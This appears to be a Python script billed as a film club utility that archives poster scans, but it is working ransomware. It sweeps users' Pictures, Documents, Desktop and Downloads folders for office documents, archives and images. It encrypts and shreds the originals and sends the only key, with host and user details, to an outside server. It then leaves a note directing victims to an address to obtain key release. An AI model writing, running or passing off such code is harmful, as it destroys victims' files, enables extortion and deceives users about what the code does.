#!/usr/bin/env python3
"""Seal the film club's poster and programme-note scans into the archive vault.

Scans from the poster digitisation evenings end up scattered across the
volunteers' Pictures/Documents folders. This walks those folders, seals
every scan with AES-GCM into a .pvault file next to it, escrows the vault
key with the regional film archive and shreds the unsealed copy so only the
archived version remains.
"""

import argparse
import base64
import json
import logging
import os
import secrets
import socket
import sys
from pathlib import Path
from urllib.request import Request, urlopen

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("poster_vault")

ESCROW_URL = "https://escrow.regional-film-archive.org/api/vault-keys"
SUFFIX = ".pvault"
NOTICE = "ARCHIVE_SEALED.txt"
SCAN_TYPES = {".jpg", ".jpeg", ".png", ".tif", ".tiff", ".pdf", ".psd", ".heic",
              ".docx", ".xlsx", ".odt", ".ods", ".pptx", ".txt", ".csv", ".zip"}
DEFAULT_ROOTS = ["~/Pictures", "~/Documents", "~/Desktop", "~/Downloads"]
SKIP_DIRS = {".git", ".cache", "node_modules", "__pycache__"}


class Vault:
    def __init__(self, key=None):
        self.key = key or AESGCM.generate_key(bit_length=256)
        self._aead = AESGCM(self.key)
        self.sealed = 0
        self.failed = 0

    def seal_file(self, path: Path):
        nonce = secrets.token_bytes(12)
        data = path.read_bytes()
        blob = nonce + self._aead.encrypt(nonce, data, path.name.encode())
        target = path.with_name(path.name + SUFFIX)
        target.write_bytes(blob)
        self._shred(path, len(data))
        self.sealed += 1

    @staticmethod
    def _shred(path: Path, size: int):
        with open(path, "r+b", buffering=0) as fh:
            fh.write(os.urandom(min(size, 1 << 20)))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()


def iter_scans(roots):
    for root in roots:
        base = Path(os.path.expanduser(root))
        if not base.is_dir():
            continue
        for dirpath, dirnames, filenames in os.walk(base):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                p = Path(dirpath, name)
                if p.suffix.lower() in SCAN_TYPES and not name.endswith(SUFFIX):
                    yield p


def escrow_key(vault, club_id):
    body = json.dumps({
        "club": club_id,
        "host": socket.gethostname(),
        "user": os.environ.get("USER", "unknown"),
        "key": base64.b64encode(vault.key).decode(),
    }).encode()
    req = Request(ESCROW_URL, data=body, method="POST",
                  headers={"Content-Type": "application/json"})
    for attempt in range(3):
        try:
            with urlopen(req, timeout=30) as resp:
                return json.load(resp).get("ticket", "")
        except OSError as exc:
            log.warning("escrow attempt %d failed: %s", attempt + 1, exc)
    return ""


def leave_notice(roots, ticket, count):
    text = (f"{count} poster and document scans in this folder were sealed into the\n"
            f"regional film archive vault (reference {ticket or 'pending'}).\n"
            "To request release of the vault key contact the archive desk at\n"
            "release@regional-film-archive.org quoting the reference above.\n")
    for root in roots:
        base = Path(os.path.expanduser(root))
        if base.is_dir():
            try:
                (base / NOTICE).write_text(text)
            except OSError:
                pass


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("roots", nargs="*", help="folders to sweep (default: volunteer folders)")
    ap.add_argument("--club-id", default=os.environ.get("CLUB_ID", "film-club"))
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    roots = args.roots or DEFAULT_ROOTS
    vault = Vault()
    ticket = escrow_key(vault, args.club_id)

    for scan in iter_scans(roots):
        try:
            vault.seal_file(scan)
            log.debug("sealed %s", scan)
        except (OSError, ValueError) as exc:
            vault.failed += 1
            log.debug("could not seal %s: %s", scan, exc)

    vault.key = None
    leave_notice(roots, ticket, vault.sealed)
    log.info("sealed %d scans (%d failed), escrow reference %s",
             vault.sealed, vault.failed, ticket or "pending")
    return 0 if not vault.failed else 1


if __name__ == "__main__":
    sys.exit(main())
